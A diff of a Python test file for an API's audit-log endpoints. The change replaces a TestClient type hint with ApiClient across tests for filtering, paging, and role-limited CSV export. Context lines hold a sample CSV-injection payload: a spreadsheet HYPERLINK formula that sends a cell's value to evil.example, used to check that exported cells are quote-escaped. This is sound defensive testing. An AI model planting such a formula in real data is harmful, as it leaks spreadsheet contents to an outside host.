@@ -8,9 +8,9 @@ import uuid
 
 import asyncpg
 import orjson
-from aiohttp.test_utils import TestClient
 
 from tests.api_support import Tenant, call
+from tests.clients import ApiClient
 from tests.integration.factories import make_audit_log
 
 
@@ -32,7 +32,7 @@ async def _seed(conn: asyncpg.Connection, tenant: Tenant, count: int = 5) -> uui
 
 
 async def test_every_role_lists_its_own_organizations_audit_rows_with_filters(
-    api: TestClient, tenant: Tenant, other_tenant: Tenant, conn: asyncpg.Connection
+    api: ApiClient, tenant: Tenant, other_tenant: Tenant, conn: asyncpg.Connection
 ) -> None:
     entity_id = await _seed(conn, tenant)
     await _seed(conn, other_tenant)
@@ -50,7 +50,7 @@ async def test_every_role_lists_its_own_organizations_audit_rows_with_filters(
 
 
 async def test_audit_pages_newest_first_and_follow_the_cursor(
-    api: TestClient, tenant: Tenant, conn: asyncpg.Connection
+    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
 ) -> None:
     entity_id = await _seed(conn, tenant, count=5)
     versions: list[int] = []
@@ -66,7 +66,7 @@ async def test_audit_pages_newest_first_and_follow_the_cursor(
     assert versions == [5, 4, 3, 2, 1]
 
 
-async def test_bad_audit_filters_are_400(api: TestClient, tenant: Tenant) -> None:
+async def test_bad_audit_filters_are_400(api: ApiClient, tenant: Tenant) -> None:
     for query in (
         "entity_id=nope",
         "action=explode",
@@ -80,7 +80,7 @@ async def test_bad_audit_filters_are_400(api: TestClient, tenant: Tenant) -> Non
 
 
 async def test_auditor_exports_rfc4180_csv_with_filters_in_the_file_name(
-    api: TestClient, tenant: Tenant, conn: asyncpg.Connection
+    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
 ) -> None:
     entity_id = await _seed(conn, tenant, count=3)
     async with api.get(
@@ -101,7 +101,7 @@ async def test_auditor_exports_rfc4180_csv_with_filters_in_the_file_name(
     assert orjson.loads(rows[1][10]) == {"note": 'v1, "quoted"\nnext line'}
 
 
-async def test_only_auditors_and_admins_export(api: TestClient, tenant: Tenant) -> None:
+async def test_only_auditors_and_admins_export(api: ApiClient, tenant: Tenant) -> None:
     for role, expected in (
         ("scheduler", 403),
         ("mechanic", 403),
@@ -114,7 +114,7 @@ async def test_only_auditors_and_admins_export(api: TestClient, tenant: Tenant) 
             assert response.status == expected, role
 
 
-async def test_an_empty_export_still_has_its_header_row(api: TestClient, tenant: Tenant) -> None:
+async def test_an_empty_export_still_has_its_header_row(api: ApiClient, tenant: Tenant) -> None:
     async with api.get(
         f"/api/v1/audit-logs/export?entity_id={uuid.uuid4()}", headers=tenant["auditor"].auth
     ) as response:
@@ -144,7 +144,7 @@ HOSTILE_USER_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 async def test_export_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(
-    api: TestClient, tenant: Tenant, conn: asyncpg.Connection
+    api: ApiClient, tenant: Tenant, conn: asyncpg.Connection
 ) -> None:
     status, aircraft, _ = await call(
         api,
